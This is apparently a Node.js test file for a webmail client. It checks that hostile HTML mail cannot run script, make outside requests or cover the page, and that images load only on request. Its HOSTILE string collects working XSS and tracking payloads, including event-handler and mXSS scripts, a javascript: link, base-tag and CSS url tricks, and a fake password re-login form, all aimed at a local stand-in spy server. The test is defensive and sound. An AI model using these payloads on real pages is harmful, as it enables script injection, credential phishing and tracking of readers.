// Mail that means harm is shown, does nothing, and calls nobody.
import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer } from 'node:http'
import { test } from 'node:test'
import { eventually, World } from './world.mjs'

const world = await World.start()
/** A server of the sender's, who would like to know who reads what. */
const heard = []
const spy = createServer((request, response) => {
  heard.push(request.url)
  response.writeHead(200, { 'content-type': 'image/png' })
  response.end(Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64'))
}).listen(0, '127.0.0.1')
await once(spy, 'listening')
const SPY = `http://127.0.0.1:${spy.address().port}`

/** The mail has been laid out, and whatever it wanted to load was asked for: a mail that came later is on the screen. */
let count = 0
async function settled(page) {
  const subject = `Harmless ${++count}`
  await world.mail({ from: 'ada@customer.example', subject, text: 'Nothing in here.' })
  await page.getByRole('link').filter({ hasText: subject }).waitFor()
}

const HOSTILE = `
<script>parent.document.title='taken'; fetch('${SPY}/script')</script>
<img src=x onerror="parent.document.title='taken'; fetch('${SPY}/onerror')">
<svg onload="parent.document.title='taken'"><script>parent.document.title='taken'</script><image href="${SPY}/svg" /></svg>
<math><mtext><table><mglyph><style><img src=x onerror="parent.document.title='taken'"></style></mglyph></table></mtext></math>
<meta http-equiv="refresh" content="0;url=${SPY}/refresh"><base href="${SPY}/"><link rel="stylesheet" href="${SPY}/link.css"><link rel="prefetch" href="${SPY}/prefetch">
<style>@import '${SPY}/import.css'; body{background:url(${SPY}/css)} .mail{display:none}</style>
<div style="position:fixed;inset:0;z-index:9999;background:url('${SPY}/inline');width:9999px">covered</div>
<p style="behavior:url(${SPY}/htc);background:u\\72l(${SPY}/escaped);font-family:'x';src:url(${SPY}/font)">escapes</p>
<form action="${SPY}/form" method="post"><input name="password" type="password" autofocus><button>Sign in again</button></form>
<iframe src="${SPY}/iframe"></iframe><object data="${SPY}/object"></object><embed src="${SPY}/embed"><video src="${SPY}/video" autoplay></video><audio src="${SPY}/audio" autoplay></audio>
<img src="${SPY}/pixel.png" width="1" height="1"><img srcset="${SPY}/srcset 1x"><picture><source srcset="${SPY}/source"><img src="${SPY}/picture"></picture><table background="${SPY}/table"><tr><td background="${SPY}/cell">cell</td></tr></table>
<a href="javascript:parent.document.title='taken'" id="run">run</a> <a href="${SPY}/followed" target="_top" ping="${SPY}/ping">a link</a>
<table width="9000"><tr>${'<td>wide</td>'.repeat(400)}</tr></table>
<p>Readable all the same.</p>`

test('hostile HTML does nothing, calls nobody, and leaves the page as it was', async () => {
  await world.html('Mallory <mallory@evil.example>', 'Urgent', HOSTILE)
  const page = await world.page({ path: '?tab=all' })
  const calls = []
  page.on('request', (request) => {
    if (!request.url().startsWith(world.base) && !request.url().startsWith('data:') && request.url() !== 'about:blank') calls.push(request.url())
  })
  await page.getByRole('link').filter({ hasText: 'Urgent' }).click()
  const frame = page.frameLocator('iframe[title="The mail\'s text"]')
  await frame.getByText('Readable all the same.').waitFor()
  await settled(page)
  assert.deepEqual({ calls, heard }, { calls: [], heard: [] })
  assert.equal(await page.title(), 'Conversations · Postroom')
  for (const gone of ['script', 'form', 'input', 'iframe', 'object', 'embed', 'svg', 'style:not(head style)', 'meta[http-equiv]', 'base', 'link', 'video', 'audio', '[onerror]', '[onload]', '[href^="javascript"]', '[target="_top"]']) {
    assert.equal(await frame.locator(`body ${gone}`).count(), 0, gone)
  }
  // It stays in its place: nothing of it covers the page, and the page does not scroll sideways.
  const box = await page.locator('iframe[title="The mail\'s text"]').boundingBox()
  assert.ok(box.width < 900 && box.height < 20_001, JSON.stringify(box))
  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth))
  await page.getByRole('textbox', { name: 'Reply' }).click({ trial: true })

  // Asked for, images come; and only images.
  await page.getByRole('button', { name: 'Show images' }).click()
  await frame.locator('img[src$="/pixel.png"]').waitFor({ state: 'attached' })
  await eventually('the images came', () => heard.includes('/pixel.png') && heard.includes('/picture'))
  await settled(page)
  const allowed = new Set(['/pixel.png', '/picture'])
  assert.ok(heard.includes('/pixel.png'), 'the image was shown')
  assert.deepEqual(heard.filter((url) => !allowed.has(url)), [])
  assert.equal(await page.title(), 'Conversations · Postroom')
  spy.close()
  await page.context().close()
})

test('even HTML that nobody has cleaned cannot run in the document of a mail', async () => {
  const page = await world.page({ path: '?tab=all' })
  // The server's cleaning is left out: what comes from the API is the hostile mail itself.
  await page.route('**/messages/*/html*', (route) => route.fulfill({ json: { html: HOSTILE.replaceAll(SPY, 'http://127.0.0.1:9'), blocked_remote_images: 0 } }))
  const calls = []
  page.on('request', (request) => request.url().startsWith('http://127.0.0.1:9/') && calls.push(request.url()))
  await page.getByRole('link').filter({ hasText: 'Urgent' }).click()
  const frame = page.frameLocator('iframe[title="The mail\'s text"]')
  await frame.getByText('Readable all the same.').waitFor()
  await frame.locator('#run').click({ force: true })
  await settled(page)
  assert.equal(await page.title(), 'Conversations · Postroom')
  // A refused request is announced and never leaves; what leaves has an address to answer from.
  const left = await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name).filter((name) => name.includes(':9/')))
  assert.deepEqual(left, [])
  await page.context().close()
})
